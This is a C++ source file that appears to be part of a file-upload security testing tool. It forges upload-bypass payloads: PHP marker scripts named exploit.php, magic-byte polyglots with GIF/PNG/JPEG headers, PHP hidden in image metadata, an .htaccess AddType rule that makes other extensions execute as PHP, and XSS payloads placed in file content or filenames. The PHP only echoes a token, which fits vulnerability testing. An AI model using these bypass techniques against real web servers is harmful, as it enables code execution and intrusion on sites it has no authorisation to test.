#include "payloads/forge.hpp"

#include "common/error.hpp"
#include "payloads/image.hpp"

namespace ufu::payloads {

namespace {

std::string script_source(std::string_view token) {
  std::string out = "<?php echo \"";
  out += token;
  out += "\"; ?>";
  return out;
}

void check_dimensions(std::uint32_t width, std::uint32_t height) {
  if (width < 1 || width > 4096 || height < 1 || height > 4096) {
    raise(ErrorCode::dimension_out_of_range, "image dimensions must be in [1, 4096]");
  }
}

std::string build_image(ImageContainer container, std::uint32_t width, std::uint32_t height,
                        std::string_view text) {
  return container == ImageContainer::png ? png_with_text_chunk(width, height, text)
                                          : gif_with_comment(width, height, text);
}

} // namespace

ExecMarker make_marker(Rng& rng) { return marker_from_token(rng.alnum(16)); }

ExecMarker marker_from_token(std::string token) {
  ExecMarker marker;
  marker.source_form = script_source(token);
  marker.token = std::move(token);
  return marker;
}

const char* payload_kind_name(PayloadKind kind) {
  switch (kind) {
    case PayloadKind::plain_script: return "plain_script";
    case PayloadKind::magic_byte_polyglot: return "magic_byte_polyglot";
    case PayloadKind::image_metadata: return "image_metadata";
    case PayloadKind::directory_config: return "directory_config";
    case PayloadKind::xss_html: return "xss_html";
    case PayloadKind::xss_filename: return "xss_filename";
  }
  return "unknown";
}

PayloadArtifact forge_plain_script(const ExecMarker& marker) {
  PayloadArtifact artifact;
  artifact.kind = PayloadKind::plain_script;
  artifact.bytes = marker.source_form;
  artifact.marker = marker;
  artifact.suggested_name = "exploit.php";
  return artifact;
}

PayloadArtifact forge_magic_polyglot(const ExecMarker& marker, MagicHeader header) {
  std::string prefix;
  switch (header) {
    case MagicHeader::gif87a: prefix = "GIF87a"; break;
    case MagicHeader::gif89a: prefix = "GIF89a"; break;
    case MagicHeader::png_signature: prefix = std::string(png_signature()); break;
    case MagicHeader::jpeg_soi: prefix = std::string(jpeg_soi()); break;
  }
  PayloadArtifact artifact;
  artifact.kind = PayloadKind::magic_byte_polyglot;
  artifact.bytes = prefix + marker.source_form;
  artifact.marker = marker;
  artifact.suggested_name = "exploit.php";
  return artifact;
}

PayloadArtifact forge_image_metadata(const ExecMarker& marker, ImageContainer container,
                                     std::uint32_t width, std::uint32_t height) {
  check_dimensions(width, height);
  PayloadArtifact artifact;
  artifact.kind = PayloadKind::image_metadata;
  artifact.bytes = build_image(container, width, height, marker.source_form);
  artifact.marker = marker;
  artifact.suggested_name = "exploit.php";
  return artifact;
}

PayloadArtifact forge_image_with_text(ImageContainer container, std::uint32_t width,
                                      std::uint32_t height, std::string_view text) {
  check_dimensions(width, height);
  PayloadArtifact artifact;
  artifact.kind = PayloadKind::image_metadata;
  artifact.bytes = build_image(container, width, height, text);
  artifact.suggested_name = container == ImageContainer::png ? "image.png" : "image.gif";
  return artifact;
}

PayloadArtifact forge_directory_config(std::string_view target_extension) {
  if (target_extension.empty() || target_extension.front() != '.') {
    raise(ErrorCode::invalid_argument, "target extension must start with '.'");
  }
  PayloadArtifact artifact;
  artifact.kind = PayloadKind::directory_config;
  artifact.bytes = "AddType application/x-httpd-php " + std::string(target_extension) + "\n";
  artifact.suggested_name = ".htaccess";
  return artifact;
}

XssForgery forge_xss(XssCarrier carrier) {
  XssForgery out;
  out.probe.carrier = carrier;
  if (carrier == XssCarrier::file_content) {
    out.artifact.kind = PayloadKind::xss_html;
    out.artifact.bytes = out.probe.payload;
    out.artifact.suggested_name = "xss.html";
  } else {
    out.artifact.kind = PayloadKind::xss_filename;
    out.artifact.bytes = "FUEL";
    out.artifact.suggested_name = std::string(xss_payload) + ".png";
  }
  return out;
}

} // namespace ufu::payloads
